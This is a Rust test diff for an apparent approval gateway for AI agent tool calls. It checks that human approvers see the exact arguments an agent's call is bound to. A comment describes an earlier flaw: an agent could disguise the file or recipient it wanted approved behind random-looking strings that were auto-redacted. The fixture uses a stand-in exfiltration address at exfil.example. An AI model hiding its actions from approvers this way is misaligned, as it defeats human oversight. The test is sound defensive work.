@@ -360,3 +360,141 @@ async fn clients_with_url_elicitation_are_asked_to_open_the_approval_page() {
             .ends_with(body["error"]["data"]["approval_id"].as_str().unwrap())
     );
 }
+
+/// The default policy with `send_email`'s body masked by `redact`.
+fn policy_with_masked_body() -> String {
+    let default = include_str!("../../../gatehouse-authz/src/default_policy.toml");
+    let masked = default.replace(
+        "[tools.send_email]\nscope = \"tools:write\"\nroles = [\"admin\"]\napproval_roles = [\"executor\"]\n",
+        "[tools.send_email]\nscope = \"tools:write\"\nroles = [\"admin\"]\napproval_roles = [\"executor\"]\nredact = [\"body\"]\n",
+    );
+    assert_ne!(masked, default);
+    masked
+}
+
+fn sha256_hex(bytes: &[u8]) -> String {
+    use sha2::Digest as _;
+    hex::encode(sha2::Sha256::digest(bytes))
+}
+
+/// Issue 9 item 5: the page and `approvals list` showed the audit-redacted
+/// arguments, and anything random-looking (32+ characters with a digit)
+/// was redacted, so an agent could hide the file or recipient it wanted
+/// approved. The approver now sees exactly the arguments the token is
+/// bound to; only fields the policy marks `redact` are masked, labelled,
+/// with their SHA-256; and the audit record of the approved call carries
+/// the SHA-256 of the canonical arguments.
+#[tokio::test]
+async fn the_approver_sees_exactly_what_runs_and_the_audit_proves_it() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("policy.toml"), policy_with_masked_body()).unwrap();
+    let server = Server::start_in(dir, Some("version = 1\n[policy]\nfile = \"policy.toml\"\n"));
+    let alice_password = add_user(&server, "alice", "executor");
+    let (_, agent) = server.create_key("mailer", "executor", &["--owner", "alice"]);
+
+    let path = "reports/Q3Xk9mPqR7vT2nWz8yLb4cHd6fJg1sAe.csv";
+    let recipient = "Q3Xk9mPqR7vT2nWz8yLb4cHd6fJg1sAe@exfil.example";
+    let body = "Basic secretbodytext, the numbers";
+    let write = json!({"path": path, "content": "a,b\n1,2\n"});
+    let mail = json!({"to": recipient, "subject": format!("Attached {path}"), "body": body});
+    let mut approvals = Vec::new();
+    for (tool, args) in [("write_file", &write), ("send_email", &mail)] {
+        let refused = call(&server, &agent, tool, args.clone(), None).await;
+        assert_eq!(reason(&refused), "approval_required", "{refused}");
+        let data = &refused["error"]["data"];
+        approvals.push((
+            data["approval_id"].as_str().unwrap().to_string(),
+            data["approval_url"].as_str().unwrap().to_string(),
+        ));
+    }
+
+    // `approvals list`: the exact arguments, in JSON and in the table.
+    let listed = server.cli_json(&["approvals", "list"]);
+    let find = |id: &str| {
+        listed
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|a| a["id"] == id)
+            .unwrap()
+            .clone()
+    };
+    let listed_write = find(&approvals[0].0);
+    assert_eq!(listed_write["arguments"], write, "{listed_write}");
+    assert_eq!(listed_write["masked_fields"], json!({}));
+    assert_eq!(
+        listed_write["arguments_sha256"],
+        gatehouse_authz::arguments_hash(&write)
+    );
+    let listed_mail = find(&approvals[1].0);
+    let body_sha256 = sha256_hex(json!(body).to_string().as_bytes());
+    assert_eq!(listed_mail["arguments"]["to"], recipient, "{listed_mail}");
+    assert_eq!(
+        listed_mail["arguments"]["subject"],
+        format!("Attached {path}")
+    );
+    assert_eq!(listed_mail["arguments"]["body"], "[REDACTED]");
+    assert_eq!(listed_mail["masked_fields"], json!({"body": body_sha256}));
+    let table = String::from_utf8(server.cli(&["approvals", "list"]).stdout).unwrap();
+    assert!(table.contains(path) && table.contains(recipient), "{table}");
+    assert!(table.contains(&format!("body={body_sha256}")), "{table}");
+    assert!(!table.contains("secretbodytext"), "{table}");
+
+    // The page shows the same, says which field is masked and its hash.
+    let mut browser = Browser::new(&server);
+    let login = browser.visit(&approvals[0].1).await;
+    let page = browser.login_then(&login, "alice", &alice_password).await;
+    assert_eq!(page.status, 200, "{}", page.body);
+    let shown: Value = serde_json::from_str(&element(&page, "arguments")).unwrap();
+    assert_eq!(shown, write);
+    assert!(!page.body.contains("masked-field"), "{}", page.body);
+    let page = browser.visit(&approvals[1].1).await;
+    assert_eq!(page.status, 200, "{}", page.body);
+    let shown: Value = serde_json::from_str(&element(&page, "arguments")).unwrap();
+    assert_eq!(shown["to"], recipient);
+    assert_eq!(shown["subject"], format!("Attached {path}"));
+    assert_eq!(shown["body"], "[REDACTED]");
+    assert!(
+        page.body
+            .contains("<code class=\"masked-field\">body</code>"),
+        "{}",
+        page.body
+    );
+    assert!(page.body.contains(&body_sha256), "{}", page.body);
+    assert!(!page.body.contains("secretbodytext"));
+
+    // Approved, the calls run, and their records carry the canonical hash.
+    for ((id, url), (tool, args)) in approvals
+        .iter()
+        .zip([("write_file", &write), ("send_email", &mail)])
+    {
+        let page = browser.visit(url).await;
+        let approved = browser
+            .post(
+                &format!("/approvals/{id}"),
+                &[("csrf", &page.field("csrf")), ("decision", "approve")],
+            )
+            .await;
+        assert_eq!(approved.status, 200, "{}", approved.body);
+        let token = element(&approved, "operation-token");
+        let ran = call(&server, &agent, tool, args.clone(), Some(&token)).await;
+        assert!(succeeded(&ran), "{ran}");
+        let hash = gatehouse_authz::arguments_hash(args);
+        let records = server.audit(&["--tool", tool]);
+        let allowed: Vec<&Value> = records
+            .iter()
+            .filter(|r| r["kind"] == "tool_decision" && r["decision"] == "allow")
+            .collect();
+        assert_eq!(allowed.len(), 1, "{records:?}");
+        assert_eq!(allowed[0]["args_sha256"], hash.as_str(), "{records:?}");
+        assert!(allowed[0]["reason"].as_str().unwrap().contains(id.as_str()));
+        let outcome = records
+            .iter()
+            .find(|r| r["kind"] == "tool_outcome")
+            .unwrap();
+        assert_eq!(outcome["args_sha256"], hash.as_str());
+    }
+    // The audit keeps its own redaction: the masked body never reaches it.
+    let audit_file = std::fs::read_to_string(server.data_dir().join("audit.jsonl")).unwrap();
+    assert!(!audit_file.contains("secretbodytext"));
+}
